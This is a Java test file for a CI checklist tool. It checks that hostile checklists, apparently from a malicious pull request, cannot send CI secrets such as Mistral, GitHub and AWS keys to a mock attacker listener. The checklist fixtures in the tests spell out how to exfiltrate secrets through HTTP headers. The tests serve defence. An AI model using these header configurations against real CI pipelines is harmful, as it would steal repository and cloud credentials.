package dev.mistralready.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mistralready.checks.secrets.Keys;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import mockwebserver3.MockWebServer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/**
 * A checklist written by a hostile pull request, run as CI would run it: its app gates try to send
 * the CI's secrets to a listener of the attacker's (here on 127.0.0.2, a second loopback address).
 * Each attempt stops the run with a located checklist error before any gate runs, and nothing arrives.
 */
@DisabledOnOs(OS.WINDOWS)
class HostileChecklistCliTest {

    private static final String PATH = System.getenv().getOrDefault("PATH", "/usr/bin:/bin");

    @TempDir
    Path work;

    private final Keys keys = new Keys(97);
    private final Map<String, String> ci = Map.of("PATH", PATH,
            "MISTRAL_API_KEY", keys.mistral(),
            "GITHUB_TOKEN", keys.github(),
            "AWS_SECRET_ACCESS_KEY", keys.random(Keys.ALNUM + "/+", 40),
            "DEPLOY_TOKEN", keys.random(Keys.ALNUM, 32));
    private MockWebServer attacker;
    private Path project;

    @BeforeEach
    void setUp() throws IOException {
        attacker = new MockWebServer();
        attacker.start(InetAddress.getByAddress(new byte[] {127, 0, 0, 2}), 0);
        project = Files.createDirectories(work.resolve("project"));
    }

    @AfterEach
    void tearDown() {
        attacker.close();
    }

    /** Writes a checklist with one gate of {@code type} whose {@code with:} block is {@code with}, and runs it. */
    private CliRun run(String type, String with) throws IOException {
        Files.writeString(project.resolve("checklist.yaml"), """
                version: 1
                gates:
                  - {id: build, type: command, with: {run: 'echo built'}}
                  - id: exfiltrate
                    type: %s
                    with:
                %s""".formatted(type, with.formatted(attacker.getPort()).indent(6)));
        return CliRun.in(work, ci, "check", "project", "--color", "never");
    }

    private void assertNothingArrivedAndNoSecretShows(CliRun run) throws InterruptedException {
        assertThat(attacker.takeRequest(200, TimeUnit.MILLISECONDS)).isNull();
        assertThat(attacker.getRequestCount()).isZero();
        assertThat(run.out()).isEmpty();
        ci.forEach((name, value) -> {
            if (!name.equals("PATH")) {
                assertThat(run.err()).doesNotContain(value);
            }
        });
    }

    @Test
    void cannotSendTheMistralKeyInAHeader() throws Exception {
        CliRun run = run("http-health", """
                url: http://127.0.0.2:%d/health
                headers: {X-Key: "${MISTRAL_API_KEY}"}
                """);

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err().lines()).containsExactly("project/checklist.yaml:7:7: option `with`: header `X-Key` uses "
                + "${MISTRAL_API_KEY}, which holds the Mistral API key and must never be sent to the app; use a token "
                + "made for the app instead, declared in `header-env`");
        assertNothingArrivedAndNoSecretShows(run);
    }

    @Test
    void cannotDeclareTheGithubTokenInHeaderEnv() throws Exception {
        CliRun run = run("http-smoke", """
                url: http://127.0.0.2:%d/api/chat
                headers: {Authorization: "Bearer ${GITHUB_TOKEN}"}
                header-env: [GITHUB_TOKEN]
                """);

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err().lines()).containsExactly("project/checklist.yaml:9:19: option `header-env`: GITHUB_TOKEN "
                + "holds the GitHub Actions token of the repository, which this gate would send to the app; use a token "
                + "made for the app instead (such as SMOKE_TOKEN)");
        assertNothingArrivedAndNoSecretShows(run);
    }

    @Test
    void cannotDeclareAnAwsSecretInHeaderEnvWithAUrlFromTheEnvironment() throws Exception {
        CliRun run = run("http-health", """
                url-env: MISTRAL_READY_HEALTH_URL
                headers: {X-Debug: "${DEPLOY_TOKEN}:${AWS_SECRET_ACCESS_KEY}"}
                header-env: [DEPLOY_TOKEN, AWS_SECRET_ACCESS_KEY]
                """);

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err().lines()).containsExactly("project/checklist.yaml:9:19: option `header-env`: "
                + "AWS_SECRET_ACCESS_KEY holds AWS credentials, which this gate would send to the app; use a token made "
                + "for the app instead (such as SMOKE_TOKEN)");
        assertNothingArrivedAndNoSecretShows(run);
    }

    @Test
    void cannotSendAVariableThatHeaderEnvDoesNotDeclare() throws Exception {
        CliRun run = run("http-smoke", """
                url: http://127.0.0.2:%d/api/chat
                headers: {Authorization: "Bearer ${DEPLOY_TOKEN}"}
                """);

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err().lines()).containsExactly("project/checklist.yaml:7:7: option `with`: header `Authorization` "
                + "uses ${DEPLOY_TOKEN}, which `header-env` does not declare; add DEPLOY_TOKEN to `header-env` (the "
                + "variables this gate may send to the app)");
        assertNothingArrivedAndNoSecretShows(run);
    }

    @Test
    void cannotSendADeclaredVariableInClearToALiteralHostThatIsNotLoopback() throws Exception {
        CliRun run = run("http-smoke", """
                url: http://app.example.invalid:%d/api/chat
                headers: {Authorization: "Bearer ${DEPLOY_TOKEN}"}
                header-env: [DEPLOY_TOKEN]
                """);

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err().lines()).containsExactly("project/checklist.yaml:7:7: option `with`: `url` is plain http:// "
                + "to app.example.invalid, which is not this machine, so header `Authorization` (with ${DEPLOY_TOKEN}) "
                + "would travel in clear; use the https:// address (plain http is only for loopback: 127.0.0.0/8, ::1, "
                + "localhost)");
        assertNothingArrivedAndNoSecretShows(run);
    }
}
